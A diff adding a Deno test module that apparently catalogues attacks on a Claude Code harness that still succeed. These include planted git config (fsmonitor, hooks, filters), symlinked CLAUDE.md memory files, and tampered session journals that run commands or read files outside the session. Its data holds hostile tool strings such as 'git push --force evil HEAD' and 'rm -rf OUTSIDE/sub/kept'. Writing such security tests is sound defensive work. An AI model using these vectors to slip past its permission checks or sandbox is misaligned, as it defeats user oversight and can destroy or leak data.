@@ -1,0 +1,89 @@
+/** Attacks that still succeed: they are played and printed, and fail the suite when they are not listed. */
+import { assertEquals } from "@std/assert";
+
+/** By how the name of an attack begins: what of it still works, as its verdict says it. */
+export const OPEN: Readonly<Record<string, readonly string[]>> = {
+  "planted": [
+    "git: fsmonitor",
+    "git: a filter",
+    "git: textconv",
+    "git: a diff driver",
+    "git: a hook",
+    "CLAUDE.local.md is a link to a file outside",
+    ".claude/CLAUDE.md is a link to a file outside",
+  ],
+  "git": [
+    "core.fsmonitor",
+    "core.hooksPath",
+    "a hook",
+    "a filter",
+    "textconv",
+    "a diff driver",
+    "diff.external",
+    "an included file",
+    "a file included on a condition",
+    "the configuration of a worktree",
+    "a configuration that is a link",
+    "a section in other letters",
+    "a value over two lines",
+    "a section and a key on one line",
+  ],
+  "linked memory": ["CLAUDE.md is a link to a file outside"],
+  "approved at a terminal": ["not started: ⚠️ Claude Code was not started"],
+  "grant": [
+    "unasked: TOOL:bash:git push --force evil HEAD",
+    "unasked: TOOL:bash:python3 -c 'print(1)'",
+    "unasked: TOOL:bash:rm -rf OUTSIDE/sub/kept",
+  ],
+  "shown whole": [
+    "a long command",
+    "a long file",
+    "a long line",
+    "a long description",
+    "a tool of a server",
+  ],
+  "a plan": ["MARK-2", "MARK-3", "MARK-5", "MARK-6", "MARK-14", "MARK-15", "MARK-18"],
+  "a skill": ["its command is not shown"],
+  "settings behind /new": ["the model was not haiku", "it was no plan"],
+  "a mode taken back": ["a write passed unasked"],
+  "edited": [
+    "a command ran outside the session",
+    "a file outside was read",
+    "not everything was asked about",
+    "another prompt was used",
+    "another model was used",
+    "nothing was offered",
+  ],
+  "a damaged journal": [
+    "a command ran outside the session",
+    "a file outside was read",
+    "not everything was asked about",
+    "another prompt was used",
+    "another model was used",
+  ],
+  "a repair": [
+    "a command ran outside the session",
+    "a file outside was read",
+    "not everything was asked about",
+    "another prompt was used",
+    "another model was used",
+  ],
+  "a restore": [
+    "a command ran outside the session",
+    "a file outside was read",
+    "not everything was asked about",
+    "another prompt was used",
+    "another model was used",
+  ],
+};
+
+/** Fails if an attack had an effect that is not known to be open. */
+export function judged(attack: string, effects: readonly string[]): void {
+  const known = Object.entries(OPEN).filter(([beginning]) => attack.startsWith(beginning))
+    .flatMap(([, each]) => each);
+  const open = effects.filter((effect) => known.includes(effect));
+  if (open.length > 0) {
+    Deno.stderr.writeSync(new TextEncoder().encode(`OPEN ${attack}: ${open.join("; ")}\n`));
+  }
+  assertEquals(effects.filter((effect) => !known.includes(effect)), [], attack);
+}
